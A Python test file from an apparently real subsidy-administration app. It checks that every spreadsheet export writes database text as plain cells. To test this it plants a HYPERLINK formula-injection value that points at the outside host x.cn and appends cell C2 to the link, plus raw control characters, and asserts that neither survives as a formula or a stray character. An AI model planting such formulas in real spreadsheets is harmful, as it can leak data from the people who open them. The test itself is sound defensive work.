"""Every spreadsheet the app answers with writes what people typed as plain text: a formula-shaped address stays
text (it never runs in the clerk's Excel), and a control character that slipped into the database before it was
refused at input neither breaks the sheet nor reaches it.

The values are planted in the database directly (input refuses them now) in every free-text column that some
export shows, and every export route of the app, pages and API, is walked."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from subsidy.core import clock, db
from subsidy.models import (
    FundShare, Household, Notice, Season, Settlement, SlipStatus, Summary, Town, Village,
)
from subsidy.policy import seasons
from subsidy.rules import months
from subsidy.rules.text import UNWANTED
from subsidy.settlement import statements, summaries
from tests.factories.sales import batch
from tests.factories.settlement import approved_registrations, make_slip, supplier, user

# Shapes of a planted value; each is told apart by its tag (and short enough for the narrowest column, 32).
SHAPES = {
    "formula": (lambda tag: f'=HYPERLINK("x.cn/"&C2,"{tag}")', lambda tag: f'=HYPERLINK("x.cn/"&C2,"{tag}")'),
    "control": (lambda tag: f"{tag}\x01值\x1f\x7f\x85\ufdd0\ufffe", lambda tag: f"{tag}值"),
}

# Path templates of the export routes; the test fails when the app has one this list does not walk.
XLSX_ROUTES = {
    "/api/v1/villages/{village_id:int}/registrations.xlsx", "/households/export.xlsx", "/households/template.xlsx",
    "/registrations/export.xlsx", "/registrations/notices/{notice_id:int}/notice.xlsx", "/slips.xlsx",
    "/summaries/{summary_id:int}/xlsx", "/settlements/{settlement_id:int}/xlsx",
    "/settlements/{settlement_id:int}/payment.xlsx", "/reports/monthly.xlsx", "/ledger/{supplier_id:int}/{product:str}/xlsx",
    "/audit/export.xlsx", "/reports/dispatch.xlsx", "/api/v1/reports/dispatch.xlsx", "/reports/acceptance.xlsx",
    "/api/v1/reports/acceptance.xlsx", "/deliveries.xlsx", "/api/v1/deliveries.xlsx",
    "/payments/files/{file_id:int}/bank.xlsx",
}


def plant(engine, typed) -> dict:
    """The planted values in every exported free-text column, and the ids the export routes need."""
    month = months.month_of(clock.today())
    with db.transaction(engine) as s:
        village = s.execute(select(Village).where(Village.code == "dongguan")).scalar_one()
        season = seasons.active_season(s)
        seller = supplier(s, "coal-a")
        registration, rejected = approved_registrations(s, "dongguan")[:2]
        household = s.get(Household, registration.household_id)
        household.head_name, household.address = typed("hn"), typed("ad")
        rejected.status, rejected.reject_reason = "rejected", typed("rj")
        notice = Notice(village_id=village.id, season_id=season.id, published_on=clock.today(),
                        ends_on=clock.today(), objection_contact=typed("oc"))
        s.add(notice)
        s.flush()
        registration.notice_id = notice.id
        s.get(Town, village.town_id).name = typed("tn")
        s.get(Season, season.id).name = typed("se")
        seller.name, seller.bank_name = typed("sn"), typed("bk")
        s.execute(update(FundShare).where(FundShare.season_id == season.id).values(name=typed("fd")))
        stock = batch(s, "coal-a", report_no=typed("rn"))
        stock.producer, stock.origin = typed("pd"), typed("or")
        s.flush()
        make_slip(s, supplier=seller, registration=registration, issued_on=clock.today().replace(day=1),
                  coal_kg=1000)
        make_slip(s, supplier=seller, registration=approved_registrations(s, "xiguan")[0],
                  issued_on=clock.today().replace(day=1), coal_kg=750)
        voided = make_slip(s, supplier=seller, registration=registration, issued_on=clock.today().replace(day=1),
                           coal_kg=500, status=SlipStatus.VOIDED)
        voided.void_reason = typed("vr")
        ids = {"village_id": village.id, "notice_id": notice.id, "supplier_id": seller.id, "month": month,
               "season_id": season.id}
    with db.transaction(engine) as s:
        built = summaries.build_summaries(s, clerk=user(s, "coal-a"), month=month)
        ids["summary_id"] = next(b.id for b in built if b.town_id == village.town_id)
        s.execute(update(Summary).where(Summary.supplier_id == ids["supplier_id"]).values(status="finance_approved"))
    with db.transaction(engine) as s:
        statement, _ = statements.settle(s, officer=user(s, "finance"), supplier_id=ids["supplier_id"], month=month)
        ids["settlement_id"] = statement.id
        s.execute(update(Settlement).where(Settlement.id == statement.id).values(
            status="paid", paid_on=clock.today(), paid_at=clock.now(), payment_reference=typed("pr")))
    return ids

# Export routes whose sheet this walk cannot reach without a flow of its own, and where their cells are checked.
WALKED_ELSEWHERE = {
    "/payments/files/{file_id:int}/bank.xlsx",  # a bank file needs a payment run: tests/services/settlement/test_payments.py
}


def exports(ids: dict) -> list[tuple[str, str, str, tuple[str, ...]]]:
    """(route template, who asks, the URL, the tags whose values the sheet must show)."""
    household = ("hn", "ad")
    return [
        ("/api/v1/villages/{village_id:int}/registrations.xlsx", "api:dongguan",
         f"/api/v1/villages/{ids['village_id']}/registrations.xlsx", household),
        ("/households/export.xlsx", "caiyuan", f"/households/export.xlsx?village_id={ids['village_id']}", household),
        ("/households/template.xlsx", "dongguan", "/households/template.xlsx", ()),
        ("/registrations/export.xlsx", "drc", "/registrations/export.xlsx", (*household, "rj")),
        ("/registrations/notices/{notice_id:int}/notice.xlsx", "dongguan",
         f"/registrations/notices/{ids['notice_id']}/notice.xlsx", (*household, "oc")),
        ("/slips.xlsx", "drc", "/slips.xlsx", ("hn", "vr", "tn")),
        ("/summaries/{summary_id:int}/xlsx", "drc", f"/summaries/{ids['summary_id']}/xlsx",
         (*household, "tn", "sn")),
        ("api /summaries/{id}.xlsx", "api:drc", f"/api/v1/summaries/{ids['summary_id']}.xlsx",
         (*household, "tn", "sn")),
        ("/settlements/{settlement_id:int}/xlsx", "finance", f"/settlements/{ids['settlement_id']}/xlsx",
         ("sn", "bk", "tn", "fd", "pr")),
        ("api /settlements/{id}.xlsx", "api:finance", f"/api/v1/settlements/{ids['settlement_id']}.xlsx",
         ("sn", "bk", "tn", "fd", "pr")),
        ("/settlements/{settlement_id:int}/payment.xlsx", "finance",
         f"/settlements/{ids['settlement_id']}/payment.xlsx", ("sn", "bk")),
        ("/reports/monthly.xlsx", "drc", f"/reports/monthly.xlsx?month={ids['month']}", ("tn", "se")),
        ("/ledger/{supplier_id:int}/{product:str}/xlsx", "drc", f"/ledger/{ids['supplier_id']}/briquette/xlsx",
         ("sn", "rn", "pd", "or")),
        # The values above are planted past the services, so the log holds none of them: what it holds (the demo's
        # entries, their users' names) must still come out as plain cells, no formula, no control character.
        ("/audit/export.xlsx", "auditor", "/audit/export.xlsx", ()),
        ("/reports/dispatch.xlsx", "drc", "/reports/dispatch.xlsx?period=month", ("tn", "se")),
        ("/api/v1/reports/dispatch.xlsx", "api:caiyuan", "/api/v1/reports/dispatch.xlsx?period=month", ("tn", "se")),
        ("/reports/acceptance.xlsx", "auditor", f"/reports/acceptance.xlsx?season_id={ids['season_id']}",
         ("tn", "se", "fd")),
        ("/api/v1/reports/acceptance.xlsx", "api:finance",
         f"/api/v1/reports/acceptance.xlsx?season_id={ids['season_id']}", ("tn", "se", "fd")),
        ("/deliveries.xlsx", "coal-a", "/deliveries.xlsx", household),
        ("/api/v1/deliveries.xlsx", "api:coal-a", "/api/v1/deliveries.xlsx", household),
    ]


def test_the_walk_covers_every_export_route_of_the_app(app):
    assert {r.path for r in app.routes if "xlsx" in r.path} == XLSX_ROUTES
    assert {route for route, *_ in exports({k: 1 for k in ("village_id", "notice_id", "supplier_id", "summary_id",
                                                           "settlement_id", "month", "season_id")})} >= XLSX_ROUTES - WALKED_ELSEWHERE


@pytest.mark.parametrize("shape", list(SHAPES))
def test_every_export_writes_typed_values_as_plain_text_cells(engine, client_as, api_as, shape):
    typed, expected = SHAPES[shape]
    ids = plant(engine, typed)
    clients, problems = {}, {}
    for route, who, url, tags in exports(ids):
        if who not in clients:
            clients[who] = api_as(who[4:]) if who.startswith("api:") else client_as(who)
        response = clients[who].get(url)
        if response.status_code != 200:
            problems[route] = f"answered {response.status_code}"
            continue
        book = load_workbook(io.BytesIO(response.content))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
        found = [f"{c.coordinate} is a formula or an error" for c in cells if c.data_type in ("f", "e")]
        found += [f"{c.coordinate} holds {c.value!r}" for c in cells
                  if isinstance(c.value, str) and UNWANTED.search(c.value)]
        for tag in tags:
            holding = [c for c in cells if isinstance(c.value, str) and expected(tag) in c.value]
            if not holding or {c.data_type for c in holding} != {"s"}:
                found.append(f"{tag} not shown as text")
        if found:
            problems[route] = found
    assert problems == {}
